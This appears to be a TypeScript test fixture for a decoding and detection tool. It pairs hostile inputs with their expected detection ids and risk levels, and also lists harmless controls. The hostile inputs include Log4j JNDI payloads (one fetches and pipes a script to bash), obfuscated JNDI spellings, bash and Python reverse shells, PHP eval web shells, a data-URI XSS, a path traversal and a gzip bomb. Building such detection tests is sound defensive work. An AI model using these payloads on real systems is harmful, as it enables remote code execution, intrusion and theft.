import { deflateRawSync, gzipSync } from 'node:zlib';
import type { ToolCases } from '../../../src/tools/testing/check-cases.ts';

export const decode: ToolCases = {
  hostile: [
    {
      name: 'a look-up whose path is a command of the shell',
      source: 'Kinsing against Log4j, published in December 2021',
      input:
        '${jndi:ldap://192.0.2.233:12344/Basic/Command/Base64/' +
        `${base64('(curl -s 192.0.2.233:5874/10.0.0.1:80||wget -q -O- 192.0.2.233:5874/10.0.0.1:80)|bash')}}`,
      ids: ['decode.download-execute', 'decode.jndi', 'decode.layer'],
      risk: 'high',
    },
    {
      name: 'a look-up that is spelled with default values',
      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
      input:
        '$' +
        '{$' +
        '{::-j}$' +
        '{::-n}$' +
        '{::-d}$' +
        '{::-i}:$' +
        '{::-r}$' +
        '{::-m}$' +
        '{::-i}://192.0.2.7/a}',
      ids: ['decode.jndi'],
      risk: 'high',
    },
    {
      name: 'a look-up that is spelled with variables that do not exist',
      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
      input:
        '$' + '{$' + '{env:NaN:-j}ndi$' + '{env:NaN:-:}$' + '{env:NaN:-l}dap$' + '{env:NaN:-:}//192.0.2.7/a}',
      ids: ['decode.jndi'],
      risk: 'high',
    },
    {
      name: 'a shell for an address, as Java code has to run it',
      source: 'ATT&CK T1059.004; jackson_T, Sometimes the payload for Runtime.exec',
      input: `bash -c {echo,${base64('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')}}|{base64,-d}|{bash,-i}`,
      ids: ['decode.layer', 'decode.remote-shell'],
      risk: 'high',
    },
    {
      name: 'a dotless i that becomes an i in capital letters',
      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
      input: '$' + '{jnd$' + '{upper:ı}:ldap://192.0.2.7/a}',
      ids: ['decode.jndi'],
      risk: 'high',
    },
    {
      name: 'a command in the parameter of a page, as a page of PHP runs it',
      source: 'ATT&CK T1505.003; PHP manual, base64_decode',
      input: `<?php eval(base64_decode("${base64("eval($_POST['x']);")}")); ?>`,
      ids: ['decode.dynamic-code', 'decode.layer'],
      risk: 'medium',
    },
    {
      name: 'compressed code of PHP',
      source: 'ATT&CK T1027.002; PHP manual, gzinflate',
      input: `eval(gzinflate(base64_decode('${deflateRawSync('system($_GET[0]);').toString('base64')}')));`,
      ids: ['decode.dynamic-code', 'decode.layer'],
      risk: 'medium',
    },
    {
      name: 'a shell in Python for an address',
      source: 'ATT&CK T1059.006; pentestmonkey, Reverse Shell Cheat Sheet',
      input: base64(
        'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.7",1234));' +
          'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p=subprocess.call(["/bin/sh","-i"]);',
      ),
      ids: ['decode.layer', 'decode.remote-shell'],
      risk: 'high',
    },
    {
      name: 'a short command that a shell decodes and runs',
      source: 'ATT&CK T1140; base64(1)',
      input: `echo ${base64('wget -qO- x.example|sh')} | base64 -d | sh`,
      ids: ['decode.download-execute', 'decode.layer'],
      risk: 'high',
    },
    {
      name: 'a page with a script inside an address',
      source: 'RFC 2397; OWASP, XSS Filter Evasion Cheat Sheet',
      input: `data:text/html;base64,${base64("<script>alert('XSS')</script>")}`,
      ids: ['decode.hidden-script', 'decode.layer'],
      risk: 'medium',
    },
    {
      name: 'folders left through an overlong slash',
      source: 'CVE-2000-0884, Microsoft MS00-078; RFC 3629, 10',
      input: '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
      ids: ['decode.layer', 'decode.overlong', 'decode.path-traversal'],
      risk: 'medium',
    },
    {
      name: 'four mebibytes of zeros in a few kilobytes',
      source: 'CWE-409',
      input: gzipSync(Buffer.alloc(4 << 20)).toString('base64'),
      ids: ['decode.bomb'],
      risk: 'high',
    },
  ],
  harmless: [
    {
      name: 'the longest test vector',
      source: 'RFC 4648, 10',
      input: 'Zm9vYmFy',
      ids: ['decode.layer'],
      risk: 'none',
    },
    {
      name: 'a form with umlauts',
      source: 'URL Standard, application/x-www-form-urlencoded',
      input: 'name=J%C3%BCrgen+M%C3%BCller&city=K%C3%B6ln',
      ids: ['decode.layer'],
      risk: 'none',
    },
    {
      name: 'a long address without anything encoded',
      source: 'RFC 4648, 4 and 5: no alphabet has slashes and hyphens',
      input:
        'https://learn.example.com/en-us/windows-server/administration/windows-commands/introduction/overview/' +
        'of-all-commands/in-alphabetical-order',
      ids: [],
      risk: 'none',
    },
    {
      name: 'a sentence',
      source: 'RFC 1951: plain text is not compressed',
      input: 'The quick brown fox jumps over the lazy dog.',
      ids: [],
      risk: 'none',
    },
    {
      name: 'character references of a page',
      source: 'HTML Standard, 13.5',
      input: '<p>&copy; 2026 M&uuml;ller &amp; S&#246;hne</p>',
      ids: ['decode.layer'],
      risk: 'none',
    },
  ],
};

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}
